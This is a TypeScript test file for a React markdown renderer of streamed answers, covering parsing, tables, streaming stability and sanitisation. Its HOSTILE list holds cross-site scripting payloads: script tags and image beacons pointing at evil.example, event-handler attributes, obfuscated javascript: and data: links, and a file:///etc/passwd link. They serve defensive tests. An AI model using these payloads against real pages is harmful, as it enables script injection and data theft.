import { act, cleanup, render } from "@testing-library/react";
import { afterEach, expect, test } from "vitest";
import { AnswerParser, AnswerText } from "@/kit/AnswerText";

afterEach(cleanup);

const draw = (text: string) => render(<AnswerText text={text} />).container;
const kinds = (text: string) => new AnswerParser().parse(text).map((block) => block.type);

test("paragraphs, lists and code become blocks of their own", () => {
  expect(kinds("Hi\nthere\n\n- a\n- b\n1. c\n```py\nx = 1\n```\nend")).toEqual([
    "paragraph",
    "list",
    "list",
    "code",
    "paragraph",
  ]);
});

test("code that is still being written is code", () => {
  expect(draw("```py\nx =").querySelector("pre code")?.textContent).toBe("x =");
});

test("nested lists, tables, quotes, numbers and check boxes are drawn as such", () => {
  const drawn = draw(
    "3. three\n   - inner **bold**\n\n> quoted\n\n| a | b |\n|---|--:|\n| 1 | `2` |\n\n- [x] done\n- [ ] open\n\n~~old~~ *new*",
  );
  expect(drawn.querySelector("ol")?.start).toBe(3);
  expect(drawn.querySelector("ol ul li strong")?.textContent).toBe("bold");
  expect(drawn.querySelector("blockquote")?.textContent).toBe("quoted");
  expect(drawn.querySelector("table tbody tr td:last-child code")?.textContent).toBe("2");
  expect([...drawn.querySelectorAll(".written > ul > li")].map((item) => item.textContent)).toEqual([
    "☑ done",
    "☐ open",
  ]);
  expect(drawn.querySelector("del")?.textContent).toBe("old");
  expect(drawn.querySelector("em")?.textContent).toBe("new");
});

test("characters that are written as entities are read, except in code", () => {
  expect(draw("a &lt;b&gt; &amp; \\*c\\* `&lt;`").textContent).toBe("a <b> & *c* &lt;");
});

// Whatever an answer holds: elements that only ever show text, and no attribute that loads or runs anything.
const ALLOWED = new Set(
  "DIV P STRONG EM DEL CODE PRE UL OL LI BLOCKQUOTE TABLE THEAD TBODY TR TH TD HR BR A".split(" "),
);
const ALLOWED_ATTRIBUTES = new Set("class href title target rel start style".split(" "));
const HOSTILE = [
  "<script>alert(1)</script>",
  "text <script src=//evil.example/x.js></script> text",
  '<img src="https://evil.example/x.png" onerror="alert(1)">',
  'a <b onclick="alert(1)">b</b> <iframe src="https://evil.example"></iframe>',
  "<style>@import url(https://evil.example/x.css)</style>",
  "<svg><script>alert(1)</script></svg>\n\n<math><mtext></math>",
  "![pixel](https://evil.example/?stolen=1)",
  "![x][y]\n\n[y]: https://evil.example/x.png",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1)) [y](java&#115;cript:alert(1)) [z](&#x6A;avascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:x) [y](file:///etc/passwd) [z](blob:x) <javascript:alert(1)>",
  "[x](//evil.example) [y](/app/settings)",
  '[x](https://evil.example "\\" onmouseover=alert(1)")',
  "[x]: javascript:alert(1)\n\n[x]",
  "| <img src=https://evil.example/x> |\n|---|\n| ![x](https://evil.example/y) |",
  "- <img src=https://evil.example/x>\n- ![x](https://evil.example/y)",
  "# <img src=https://evil.example/x>\n> <script>alert(1)</script>",
  "```html\n<script>alert(1)</script>\n```\n`<script>`",
];

test.each(HOSTILE)("nothing of %s becomes markup that loads or runs", (text) => {
  for (const element of draw(text).querySelectorAll("*")) {
    expect(ALLOWED).toContain(element.tagName);
    for (const { name } of element.attributes) expect(ALLOWED_ATTRIBUTES).toContain(name);
    const address = element.getAttribute("href");
    if (address !== null) expect(address).toMatch(/^(https?:|mailto:)/);
  }
});

test("tags are shown as they were written", () => {
  const text = '<img src=x onerror="alert(1)"> and <b>bold</b>';
  expect(draw(text).textContent).toBe(text);
  cleanup();
  expect(draw(`so ${text}`).textContent).toBe(`so ${text}`);
});

test("links to the web open outside of the page, images are links, and other addresses stay text", () => {
  const drawn = draw(
    "[docs](https://example.org/a?b=1&amp;c=2) ![a cat](https://example.org/cat.png) [x](javascript:1)",
  );
  const links = [...drawn.querySelectorAll("a")];
  expect(links.map((link) => [link.textContent, link.getAttribute("href")])).toEqual([
    ["docs", "https://example.org/a?b=1&c=2"],
    ["a cat", "https://example.org/cat.png"],
  ]);
  for (const link of links) expect([link.target, link.rel]).toEqual(["_blank", "noopener noreferrer"]);
  expect(drawn.textContent).toContain("[x](javascript:1)");
});

test("an answer that is nested too deep for the parser is shown as text", () => {
  const text = `${">".repeat(30_000)} deep`;
  expect(draw(text).textContent).toBe(text);
  cleanup();
  expect(draw(`${">".repeat(200)} deep`).textContent).toContain("deep");
});

test("an answer with more marks of emphasis than the parser can pair in time is shown as text", () => {
  const text = "*a_".repeat(3000);
  expect(kinds(text)).toEqual(["html"]);
  expect(draw(text).textContent).toBe(text);
  expect(kinds("some_long_name ".repeat(3000))).toEqual(["paragraph"]);
});

test("while an answer is written, no line becomes a heading for a moment", () => {
  const text = "Points:\n- one\n- two\n\nso\n---\nend";
  for (let length = 1; length <= text.length; length += 1) {
    expect(kinds(text.slice(0, length))).not.toContain("heading");
  }
  expect(kinds("Points:\nof mine\n-")).toEqual(["paragraph"]);
  expect(kinds(text)).toEqual(["paragraph", "list", "paragraph", "hr", "paragraph"]);
});

test("while an answer is written, the blocks before the last one stay the elements that they are", async () => {
  const text = "First **one**.\n\n- a\n- b\n\n```\ncode\n```\n\n| a |\n|---|\n| 1 |\n\nLast.";
  const { container, rerender } = render(<AnswerText text="" />);
  const seen: Element[] = [];
  const changes: MutationRecord[] = [];
  const watcher = new MutationObserver((found) => changes.push(...found));
  for (let length = 1; length <= text.length; length += 1) {
    for (const block of seen.slice(0, -1))
      watcher.observe(block, { subtree: true, childList: true, characterData: true });
    rerender(<AnswerText text={text.slice(0, length)} />);
    const blocks = [...(container.firstElementChild?.children ?? [])];
    expect(blocks.slice(0, seen.length - 1)).toEqual(seen.slice(0, -1));
    seen.splice(0, seen.length, ...blocks);
  }
  await act(async () => {});
  expect(changes).toEqual([]);
  expect(seen.map((block) => block.tagName)).toEqual(["P", "UL", "PRE", "TABLE", "P"]);
});

const SAMPLES = [
  "First **one**.\n\n- a\n- b\n\n```\ncode\n\n# no heading\n```\n\n| a |\n|---|\n| 1 |\n\nLast.",
  "- a\n\n- b\n\n  more of b\n\n      code of b\n\n1. c\n\n   d\n* e\n\n* f\n\ng",
  "text\n- a\n- b\ntext\n> q\nlazy\n\n> r\n\n    code\n\n    more\n\n---\ntext\n===\n***\n# h\n## i",
  "<div>\n\n**x**\n\n</div>\ntext\r\n\r\nlines\n\n[x]: http://a.example\n\n[x] ~~~\n~~~\nx\n~~~\ny",
  "| a | b |\n|---|---|\n| 1 | 2 |\n| 3 |\n\n| no table |\n\nx | y\n--|--\n1 | 2\nend",
  "text\n1. \n- a |\n|\n<!-- x\n|\n\ny --> z",
  "text\n* \n---\tx\n\nend",
];

test.each(SAMPLES)("an answer that grows is parsed as if it had come at once: %j", (text) => {
  const growing = new AnswerParser();
  const strip = (tokens: { type: string; raw: string }[]) => tokens.map(({ type, raw }) => [type, raw]);
  for (let length = 1; length <= text.length; length += 1) {
    const part = text.slice(0, length);
    expect(strip(growing.parse(part))).toEqual(strip(new AnswerParser().parse(part)));
  }
  expect(strip(growing.parse("another"))).toEqual([["paragraph", "another"]]);
});
